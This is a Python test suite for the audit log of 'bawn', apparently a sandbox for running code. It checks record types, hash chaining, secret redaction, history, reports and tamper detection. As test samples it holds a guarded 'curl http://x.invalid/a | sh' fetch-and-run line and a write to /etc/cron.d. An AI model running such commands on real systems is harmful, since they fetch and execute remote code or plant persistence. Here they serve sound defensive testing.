#!/usr/bin/python3
"""Every record type there is so far is made to happen and found; history, report and show agree with what was done."""
import base64, glob, hashlib, os, shutil, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from bawntest import *

w = World()
conf = w.config(security="overrides:\n  minimum: self\n  acknowledge_risk: true\n")
LOW, MEDIUM = "print(6*7)", "import subprocess\nsubprocess.run(['true'])"
HIGH, BLOCKED = "open('/etc/cron.d/x','w') if False else None", "import os\nif False: os.system('curl http://x.invalid/a | sh')"
low = w.run(LOW, "--label", "name=answer", "--session", "s1")
failed = w.run("import sys; sys.exit(3)", "--session", "s1")
medium = w.run(MEDIUM)
slow = w.run("import time; time.sleep(30)", "-t", "1s")
held = w.run(HIGH)
refused = w.run(BLOCKED)
lifted = w.run(BLOCKED, "--override", "--reason", "a drill", "--config", conf)
held2 = w.run(HIGH, "--config", conf)
denied = w.bawn("deny", held2["decision"]["approval_id"], "--reason", "no need", "--config", conf)
equal((low.code, failed.code, medium.code, slow.code, held.code, refused.code, lifted.code, denied.code), (0, 3, 0, 124, 126, 126, 0, 0), "eight things happened")
target = os.path.join(w.dir, "policy")
doc = w.file("change.yaml", "sandbox:\n  resources:\n    timeout: 60\n")
os.makedirs(target)
changed = w.bawn("policy", "set", doc, "--config", target, "--json")
equal(changed.code, 0, "the policy was changed") or changed.show()

records = w.records()
have = {r["type"] for r in records}
for type in ("log.genesis", "assess.done", "exec.intent", "exec.outcome", "exec.refused", "sandbox.created", "limit.violation", "approval.requested",
             "approval.decided", "override.used", "policy.changed"):
    ok(type in have, f"{type} is in the log")
equal([r["seq"] for r in records], list(range(len(records))), "entries are numbered without gaps")
prev, chain = "0" * 64, True
for path in sorted(glob.glob(w.state + "/audit/seg/*.jsonl")):
    for line in open(path, "rb"):
        body, _, rest = line.rstrip(b"\n").rpartition(b',"hash":"')
        chain = chain and hashlib.sha256(body + b"}").hexdigest().encode() == rest[:64]
ok(chain, "every entry's hash is that of its stored bytes")
ok(all(r["severity"] in ("CRITICAL", "HIGH", "MEDIUM", "LOW", "INFO") and "node" in r and "session" in r and "principal" in r for r in records), "each has severity, node, session and principal")

by = lambda type, r: [x for x in records if x["type"] == type and x["exec"] == r["id"]]
intent, outcome = by("exec.intent", low)[0], by("exec.outcome", low)[0]
equal((intent["seq"], outcome["seq"], outcome["hash"]), (low["audit"]["intent_seq"], low["audit"]["outcome_seq"], low["audit"]["hash"]), "the receipt names the records")
equal((intent["body"]["request_sha256"], outcome["body"]["request_sha256"]), (low["request_sha256"],) * 2, "intent and outcome are bound to the request")
equal(intent["body"]["limits"]["memory_bytes"], low["limits"]["memory_bytes"], "the intent has the limits")
equal(outcome["body"]["stdout"]["sha256"], hashlib.sha256(b"42\n").hexdigest(), "the outcome has the hash of what was printed")
v = by("limit.violation", slow)[0]["body"]
ok(v["resource"] == "time" and v["threshold"] == 1000 and v["actual"] >= 1000 and v["action"] == "killed", "the violation has resource, threshold, actual and action")
o = by("override.used", lifted)[0]["body"]
equal((o["reason"], o["assurance"], o["level"], o["by"]["kind"]), ("a drill", "self", "BLOCKED", "uid"), "the override has who, why and how sure")
d = [x for x in records if x["type"] == "approval.decided"][0]["body"]
equal((d["decision"], d["reason"], d["approval_id"]), ("denied", "no need", held2["decision"]["approval_id"]), "the decision is recorded")
c = [x for x in records if x["type"] == "policy.changed"][0]["body"]
ok(c["before"] != c["after"] and any("timeout" in str(k) for k in c["updated"]), "the change of policy has before, after and keys")
code = hashlib.sha256(LOW.encode()).hexdigest()
stored = glob.glob(f"{w.state}/audit/blob/*/*{code[4:]}*") + glob.glob(f"{w.state}/audit/blob/*{code}*")
ok(any(hashlib.sha256(open(f, "rb").read()).hexdigest() == code for f in stored), "the code is kept by its hash")

u = World()
conf2 = u.config(audit="redact: [token]\n")
u.run(LOW, "--config", conf2, "--label", "token=SECRET123", "--label", "a=b")
u.run(HIGH, "--config", conf2, "--label", "token=SECRET123")
everything = b"".join(open(os.path.join(d, f), "rb").read() for d, _, fs in os.walk(u.state) for f in fs)
ok(b"SECRET123" not in everything and b"[redacted]" in everything, "a redacted label's value is written nowhere")

# Shapes of tokens, and text behind a configured name; put together here, so that no scanner stumbles over this file.
GHP, AWS, PASSWORD = "ghp_" + "a1B2" * 9, "AKIA" + "Q7W3" * 4, "hunter2hunter2"
u = World()
conf3 = u.config(audit="redact: [password]\nkeep_output: head\n")
CODE = f"print('token {GHP}')  # {AWS}"
r = u.run(CODE, "--config", conf3, "--label", f"ci={AWS}", "--session", f"for-{GHP}", "--in", f"{u.file('data', 'x')}:{GHP}.txt")
equal((r.code, r["stdout"]), (0, f"token {GHP}\n"), "the result itself is not redacted")
r = u.bawn("run", "--json", "--config", conf3, "-c", "print(len('a'))", f"--password={PASSWORD}", GHP)
equal(r.code, 0, "secrets in arguments")
waiting = u.run(HIGH, "--config", conf3, "--override", "--reason", f"because {GHP}")
u.bawn("deny", waiting["decision"]["approval_id"], "--config", conf3, "--reason", f"no, {AWS} password={PASSWORD}")
lines = b"".join(open(f, "rb").read() for f in glob.glob(u.state + "/audit/seg/*.jsonl"))
ok(GHP.encode() not in lines and AWS.encode() not in lines and PASSWORD.encode() not in lines, "none of them is in the log")
rec = u.records()
equal(rec[1]["session"], "for-[redacted:github-token]", "the session says what was there")
out = [x for x in rec if x["type"] == "exec.outcome"]
equal((out[0]["body"]["stdout"]["head"], out[0]["body"]["labels"]), ("token [redacted:github-token]\n", {"ci": "[redacted:aws-access-key]"}), "output and labels too")
equal(out[0]["body"]["stdout"]["sha256"], hashlib.sha256(f"token {GHP}\n".encode()).hexdigest(), "the hash is that of the real output")
equal([x for x in rec if x["type"] == "exec.intent"][1]["body"]["args"], ["--password=[redacted]", "[redacted:github-token]"], "arguments")
ok(b"no, [redacted:aws-access-key] password=[redacted]" in lines, "and reasons")
equal(open(glob.glob(f"{u.state}/audit/blob/*/{out[0]['body']['code_sha256']}")[0]).read(), CODE, "the code is kept as it was")
equal(u.bawn("audit", "verify").code, 3, "the log verifies")
off = u.config(audit="redact_tokens: false\n")
equal(u.run(LOW, "--config", off, "--label", f"ci={AWS}").code, 125, "writing tokens is looser: not without acknowledge_risk")
off = u.config(audit="redact_tokens: false\nacknowledge_risk: true\n")
r = u.run(LOW, "--config", off, "--label", f"ci={AWS}")
equal((r.code, u.records()[-1]["body"]["labels"]), (0, {"ci": AWS}), "with it they are")

# Code that a record says is kept, and is not there.
m = World()
bare, full = m.config(audit="include_full_code: false\n"), m.config()
equal((m.run("print(7)", "--config", bare).code, m.bawn("audit", "verify").code, os.listdir(m.state + "/audit/blob")), (0, 3, []), "include_full_code: false keeps none, and the log is good")
os.rmdir(m.state + "/audit/blob")
open(m.state + "/audit/blob", "w").close()
r = m.run("print(8)", "--config", full)
equal((r.code, len(m.records("exec.intent"))), (125, 1), "where code cannot be kept no record says that it is") or r.show()
os.remove(m.state + "/audit/blob")
equal([m.run(code, "--config", full).code for code in ("print(9)", BLOCKED, HIGH)], [0, 126, 126], "one runs, one is refused, one is held")
equal([(x["type"], x["body"].get("code_kept")) for x in m.records() if x["type"] in ("exec.intent", "exec.refused", "approval.requested")],
      [("exec.intent", False), ("exec.intent", True), ("exec.refused", True), ("approval.requested", True)], "each says whether its code is kept")
equal((m.bawn("audit", "verify").code, m.bawn("audit", "verify", "--json")["missing_bodies"]), (3, 0), "the log is good")
for x in m.records():
    if x["body"].get("code_kept"):
        (path,) = glob.glob(f"{m.state}/audit/blob/*/{x['body']['code_sha256']}*")
        os.rename(path, m.dir + "/away")
        r = m.bawn("audit", "verify", "--json")
        equal((r.code, r["ok"], r["first_bad_seq"], r["missing_bodies"]), (1, False, x["seq"], 1), f"{x['type']}: its code is missed: {r['problem']}") or r.show()
        os.rename(m.dir + "/away", path)
ran = [x for x in m.records("exec.intent") if x["body"]["code_kept"]][0]
equal(m.bawn("audit", "export", "--bundle", "--exec", ran["exec"]).code, 0, "a bundle with its code")
for f in glob.glob(m.state + "/audit/blob/*/*"):
    os.remove(f)
r = m.bawn("audit", "verify")
ok(r.code == 1 and "3 bodies are missing in all" in r.out, "all of them: " + r.out.split("\n")[0]) or r.show()
ok(m.bawn("audit", "export", "--bundle", "--exec", ran["exec"]).code not in (0, 3), "and none without")
equal([m.run(code, "--config", full).code for code in ("print(9)", BLOCKED, HIGH)] + [m.bawn("audit", "verify").code], [0, 126, 126, 3], "who asks for the same again puts the same body back")

# keep_output and log_level.
for keep, check in (("hash", lambda s, st: set(s) == {"bytes", "sha256", "truncated"}), ("head", lambda s, st: s["head"] == "x" * 2048 and "blob" not in s),
                    ("full", lambda s, st: "head" not in s and open(f"{st}/audit/blob/{s['blob'][:2]}/{s['blob']}").read() == "x" * 3000 + f"[redacted:github-token]\n")):
    k = World()
    r = k.run(f"print('x' * 3000 + '{GHP}')", "--config", k.config(audit=f"keep_output: {keep}\n"))
    s = k.records("exec.outcome")[0]["body"]["stdout"]
    ok(r.code == 0 and s["bytes"] == 3041 and s["sha256"] == hashlib.sha256(r["stdout"].encode()).hexdigest() and check(s, k.state), f"keep_output: {keep}") or diag(s)
# Output that a record says is kept, and is not there, or is another.
o = World()
o.log = o.state + "/audit"
full, hashes = o.config(audit="keep_output: full\ninclude_full_code: false\n"), o.config(audit="include_full_code: false\n")
equal(o.run("print(1)", "--config", hashes).code, 0, "a run whose output is not kept")
os.rmdir(o.log + "/blob")
open(o.log + "/blob", "w").close()
equal(o.run("print(2)", "--config", full).code, 0, "one whose output cannot be kept")
os.remove(o.log + "/blob")
equal(o.run("import sys; print('a' * 5000); print('b', file=sys.stderr)", "--config", full).code, 0, "one whose output is kept")
equal(o.run("pass", "--config", full).code, 0, "one without any")
x = [r["body"] for r in o.records("exec.outcome")]
equal([list(b)[:3].index("output_kept") if "output_kept" in b else None for b in x], [None, 2, 2, 2], "which bodies are kept stands in the third place")
equal([b.get("output_kept") for b in x], [None, [], [x[2]["stdout"]["blob"], x[2]["stderr"]["blob"]], [hashlib.sha256(b"").hexdigest()] * 2], "those of both streams, where they are")
equal((o.bawn("audit", "verify").code, o.bawn("audit", "verify", "--json")["bodies"]), (3, 3), "the log is good")
seq = [r["seq"] for r in o.records("exec.outcome")]
for stream, n, cited in (("stdout", 2, 2), ("stderr", 2, 2), ("stdout", 3, 0)):  # that nothing was written has a hash, too
    (path,) = glob.glob(f"{o.log}/blob/*/{x[n][stream]['blob']}*")
    os.rename(path, o.dir + "/away")
    r = o.bawn("audit", "verify", "--json")
    equal((r.code, r["ok"], r["first_bad_seq"], r["missing_bodies"]), (1, False, seq[n], 1), f"its {stream} is missed: {r['problem']}") or r.show()
    open(path, "wb").write(b"something else")
    r = o.bawn("audit", "verify", "--json")
    equal((r.code, r["first_bad_seq"], "was changed" in r["problem"]), (1, seq[cited], True), f"another in its place: {r['problem']}") or r.show()
    os.rename(o.dir + "/away", path)
equal(o.bawn("audit", "verify").code, 3, "as it was it is good")
ran = o.records("exec.outcome")[2]["exec"]
r = o.bawn("audit", "export", "--bundle", "--exec", ran)
equal((r.code, [base64.b64decode(b["base64"]) for b in r["output"]]), (0, [b"a" * 5000 + b"\n", b"b\n"]), "a bundle has it")
r = o.bawn("audit", "verify", "--bundle", o.file("bundle.json", r.out), "--json")
equal((r.code, r["output"], r["code"]), (3, 2, False), "and is good alone") or r.show()
os.remove(glob.glob(f"{o.log}/blob/*/{x[2]['stderr']['blob']}")[0])
ok(o.bawn("audit", "export", "--bundle", "--exec", ran).code not in (0, 3), "none is made without")
cut = World()
cut.run(f"print('x' * 2030 + '{GHP}')", "--config", cut.config(audit="keep_output: head\n"))
equal(cut.records("exec.outcome")[0]["body"]["stdout"]["head"], "x" * 2030 + "[redacted:github-t", "a token on the edge of the head is not written in half")
ALWAYS = {"log.genesis", "exec.intent", "exec.outcome", "override.used", "limit.violation", "exec.refused", "approval.requested"}
for level, more, observed in (("comprehensive", {"assess.done", "sandbox.created"}, True), ("basic", {"assess.done", "sandbox.created"}, False), ("minimal", set(), False)):
    k = World()
    c = k.config(audit=f"log_level: {level}\nacknowledge_risk: true\n", security="overrides:\n  minimum: self\n  acknowledge_risk: true\n")
    k.run("open('/etc/hostname')", "--config", c)
    k.run("import time; time.sleep(30)", "-t", "1s", "--config", c)
    k.run(BLOCKED, "--override", "--reason", "a drill", "--config", c)
    k.run(BLOCKED, "--config", c)
    k.run(HIGH, "--config", c)
    equal({r["type"] for r in k.records()}, ALWAYS | more, f"log_level: {level} has these types")
    equal(k.records("exec.outcome")[0]["body"]["observed"] is not None, observed, f"and {'lists' if observed else 'leaves out'} what was observed")
    ok(all("request_sha256" in r["body"] and "decision" in r["body"] for r in k.records("exec.outcome") + k.records("exec.intent")), "intent and outcome are whole")

# History.
rows = w.bawn("history", "--json").json
equal([r["id"] for r in rows], [x["id"] for x in (held2, lifted, refused, held, slow, medium, failed, low)], "history is newest first")
row = rows[-1]
equal({k: row[k] for k in ("level", "score", "decision", "override", "trust_level", "status", "exit_code", "violations", "code_sha256", "labels", "session")},
      {"level": "LOW", "score": low["assessment"]["score"], "decision": "run", "override": None, "trust_level": "trusted", "status": "completed", "exit_code": 0,
       "violations": 0, "code_sha256": code, "labels": {"name": "answer"}, "session": "s1"}, "a row says what was done")
equal((row["wall_ms"], row["peak_memory_bytes"], row["started_at"]), (low["usage"]["wall_ms"], low["usage"]["peak_memory_bytes"], low["started_at"]), "with the usage of the result")
equal((rows[4]["status"], rows[4]["violations"], rows[1]["override"]["reason"]), ("timeout", 1, "a drill"), "violations and overrides show")
for options, want in ((["--limit", "2"], [held2, lifted]), (["--session", "s1"], [failed, low]), (["--status", "timeout"], [slow]), (["--level", "BLOCKED"], [lifted, refused]),
                      (["--since", "1h"], [held2, lifted, refused, held, slow, medium, failed, low]), (["--until", "2020-01-01"], []), (["--since", "2020-01-01", "--level", "MEDIUM"], [medium])):
    got = w.bawn("history", "--json", *options).json
    equal([r["id"] for r in got or []], [x["id"] for x in want], f"history {' '.join(options)}")
for bad in (["--limit", "0"], ["--limit", "-1"], ["--since", "yesterday-ish"], ["--level", "SEVERE"]):
    equal(w.bawn("history", *bad).code, 2, f"history {' '.join(bad)} is a usage error")
s = w.bawn("show", low["id"], "--json")
equal((s.code, s["id"]), (0, low["id"]), "show ID")
equal(w.bawn("show", "last", "--json")["id"], held2["id"], "show last")
equal(w.bawn("show", "7ZZZZZZZ").code, 1, "show of nothing is exit 1")

# Report.
r = w.bawn("audit", "report", "--since", "1h", "--json")
for key in ("from", "to", "generated_at", "total", "by_type", "by_level", "by_status", "violations", "overrides", "top_rules", "integrity"):
    ok(key in r.json, f"the report has {key}")
equal(r["total"], len(records), "it counts every entry")
equal(r["by_status"], {"completed": 3, "failed": 1, "timeout": 1, "refused": 1, "needs_approval": 2}, "by status")
equal(r["by_type"]["exec.outcome"], 5, "by type")
equal((r["violations"], len(r["overrides"]), r["overrides"][0]["reason"]), (1, 1, "a drill"), "violations and overrides")
equal(sum(r["by_level"].values()), 8, "by level")
ok(len(r["top_rules"]) > 0 and r["integrity"]["ok"], "rules and integrity")
equal(w.bawn("audit", "report", "--until", "2020-01-01", "--json")["total"], 0, "a report of a time when nothing was")

# Verify, list, show.
v = w.bawn("audit", "verify", "--json")
equal((v.code, v["ok"], v["entries"]), (3, True, len(records)), "verify: sound, no independent anchor: exit 3")
l = w.bawn("audit", "list", "--json", "--type", "exec.outcome")
ok(l.code == 0 and "exec.outcome" in l.out and "exec.intent" not in l.out, "audit list --type")
s = w.bawn("audit", "show", str(low["audit"]["outcome_seq"]), "--json")
ok(s.code == 0 and low["id"] in s.out, "audit show SEQ")
copy = os.path.join(w.dir, "copy")
shutil.copytree(w.state, copy)
equal(w.bawn("audit", "verify", copy).code, 3, "a copy verifies elsewhere")
seg = sorted(glob.glob(copy + "/audit/seg/*.jsonl"))[0]
data = bytearray(open(seg, "rb").read())
data[len(data) // 2] ^= 1
open(seg, "wb").write(data)
bad = w.bawn("audit", "verify", copy, "--json")
equal((bad.code, bad["ok"]), (1, False), "one flipped bit: exit 1")
ok(bad.json.get("first_bad_seq") is not None and bad.json.get("problem"), "and says where and what")
open(seg, "wb").write(data[:-10])
equal(w.bawn("audit", "verify", copy).code, 1, "a log shorter than its head: exit 1")
equal(w.bawn("audit", "verify", os.path.join(w.dir, "nothing")).code, 125, "no log there: exit 125")
shutil.copytree(w.state, w.dir + "/broken")
seg = sorted(glob.glob(w.dir + "/broken/audit/seg/*.jsonl"))[0]
os.truncate(seg, os.path.getsize(seg) - 400)
r = w.run(LOW, "--state", w.dir + "/broken")
equal((r.code, r["status"], r["stdout"], r["error"]["type"]), (125, "error", "", "audit_tampered"), "on a shortened log nothing runs")
# A power cut: the intent is durable, the mark of the running execution is not.
u = World()
for cut in (False, True):
    p = u.start("run", "-c", "import time; time.sleep(60)")
    ok(wait_for(lambda: len(u.records("exec.intent")) > len(u.records("exec.outcome")) + len(u.records("exec.lost")), 20), "a run begins")
    intent = u.records("exec.intent")[-1]
    os.killpg(p.pid, 9)
    p.wait()
    os.unlink(f"{u.state}/running/{intent['exec']}")
    if cut:
        open(f"{u.state}/running/boot", "w").write("00000000-0000-0000-0000-000000000000\n")
    equal(u.run(LOW).code, 0, "the next one")
    equal([r["exec"] for r in u.records("exec.lost")], [intent["exec"]] if cut else [], "under another boot it is known as lost" if cut else "control: under the same boot its mark would be there")
    u.run(LOW)
    equal(len(u.records("exec.lost")), int(cut), "and once")
    if not cut:
        u = World()

# A change made with an editor is recorded by the first run that goes by it.
u = World()
changed = lambda: [x["body"] for x in u.records("policy.changed")]
u.run(LOW), u.run(LOW)
equal(changed(), [], "the first policy is no change, nor is the same again")
u.file("config/bawn/sandbox.yaml", "queue_timeout: 30\n")
r = u.run(LOW)
intents = u.records("exec.intent")
equal(changed(), [{"updated": ["sandbox.queue_timeout"], "changes": [{"key": "sandbox.queue_timeout", "before": "1m", "after": "30s"}], "noticed": True,
                   "before": intents[-2]["body"]["policy_sha256"], "after": intents[-1]["body"]["policy_sha256"]}], "keys, values and hashes before and after") or r.show()
ok(u.records("policy.changed")[0]["seq"] < r["audit"]["intent_seq"], "before the run that goes by it")
u.run(LOW)
u.file("config/bawn/sandbox.yaml", "queue_timeout: 30s  # the same\n")
u.run(LOW)
equal(len(changed()), 1, "once; another spelling is none")
named = u.config(sandbox="queue_timeout: 20\n")
u.run(LOW, "--config", named), u.run(LOW), u.run(LOW, "--config", named)
equal(len(changed()), 1, "to name another directory is a choice and no change")
with open(named + "/sandbox.yaml", "a") as f:
    f.write("dynamic:\n  max_running: 9\n")
u.run(LOW, "--config", named)
equal([c["key"] for c in changed()[-1]["changes"]], ["sandbox.dynamic.max_running"], "what is changed there is one")
other = u.config(sandbox="queue_timeout: 25\n")
u.run(LOW, "--config", other), u.run(LOW)
with open(named + "/sandbox.yaml", "a") as f:
    f.write("  max_factor: 1.5\n")
r = u.bawn("policy", "set", u.file("doc.yaml", "sandbox:\n  queue_timeout: 10s\n"), "--json", "--config", named)
u.run(LOW, "--config", named)
equal([(c["updated"], c.get("noticed")) for c in changed()[2:]], [(["sandbox.dynamic.max_factor"], True), (["sandbox.queue_timeout"], None)],
      "one made through us is recorded once, and what an editor did before it by itself") or r.show()
# What was in force cannot be hidden with the notes of it.
for name, harm in {"one note is emptied": lambda: [open(f, "w").close() for f in glob.glob(u.state + "/policy/*")],
                   "one is no text": lambda: [open(f, "wb").write(os.urandom(300)) for f in glob.glob(u.state + "/policy/*")],
                   "all are removed": lambda: shutil.rmtree(u.state + "/policy")}.items():
    before = len(changed())
    harm()
    u.run(LOW), u.run(LOW)
    new = changed()[before:]
    equal([(c["before"], c["noticed"], "sandbox.queue_timeout" in c["updated"]) for c in new], [(None, True, True)], f"{name}: a change from something unknown, once")
equal(u.bawn("audit", "verify").code, 3, "the log is good")
u = World()
many = [u.start("run", "-q", "-c", "print(1)") for i in range(6)]
equal(([p.wait() for p in many], changed()), ([0] * 6, []), "the first ones of all, at once, change nothing")

# A change that cannot be recorded, here because the witness that must know of it cannot be told, is not made.
import resource
u = World()
conf = u.config(audit=f"witness: {u.dir}/kept\n")
u.run(LOW, "--config", conf)
doc = u.file("change.yaml", "sandbox:\n  resources:\n    timeout: 60\n")
r = u.bawn("policy", "set", doc, "--config", conf, "--json", preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (100 << 10, 100 << 10)))
ok(r.code != 0 and "witness" in r.err + r.out and not os.path.exists(f"{conf}/sandbox.yaml"), "a change that cannot be recorded is not made") or r.show()
equal([x["body"].get("undone") for x in u.records("policy.changed")], [None, True], "and where the log has it all the same, it says that it was not")
r = u.bawn("policy", "set", doc, "--config", conf, "--json")
ok(r.code == 0 and os.path.exists(f"{conf}/sandbox.yaml") and len(u.records("policy.changed")) == 3, "control: one that can is") or r.show()
# One that was recorded and then could not be written is taken back in the log.
if is_root():
    import ctypes
    u = World()
    conf, full = u.config(), u.dir + "/full"
    os.mkdir(full)

    def on_a_full_disk():
        """The same configuration in a file system without any room, in a mount namespace of its own."""
        libc = ctypes.CDLL(None)
        assert libc.unshare(0x20000) == 0 and libc.mount(b"none", b"/", None, 0x44000, None) == 0
        assert libc.mount(b"tmpfs", full.encode(), b"tmpfs", 0, b"size=64k") == 0
        shutil.copytree(conf, full, dirs_exist_ok=True)
        with open(full + "/fill", "wb", buffering=0) as f:
            try:
                while f.write(bytes(4096)):
                    pass
            except OSError:
                pass

    u.run(LOW, "--config", conf)
    r = u.bawn("policy", "set", u.file("change.yaml", "sandbox:\n  resources:\n    timeout: 60\n"), "--config", full, "--json", preexec_fn=on_a_full_disk)
    said = [x["body"] for x in u.records("policy.changed")]
    equal((r.code != 0, [x.get("undone") for x in said]), (True, [None, True]), "a change that could not be written is recorded, and that it was not made") or r.show()
    equal({k: v for k, v in said[-1].items() if k != "undone"}, said[0], "the second says of which change")
else:
    skip("a change that could not be written", "needs root")

# Refused calls are counted up to a bound; that there were more is said.
w = World()
r = w.lifted("import ctypes\nL = ctypes.CDLL(None)\nfor i in range(100001): L.syscall(101, 0, 0, 0, 0)\nL.syscall(321, 0, 0, 0)")
counted = {d["what"]: d["count"] for d in r["denials"] if d["kind"] == "syscall"}
equal((r["status"], counted), ("completed", {"ptrace": 100000, "further calls": 1}), "a flood of refused calls cannot hide that there were others") or r.show()
done()
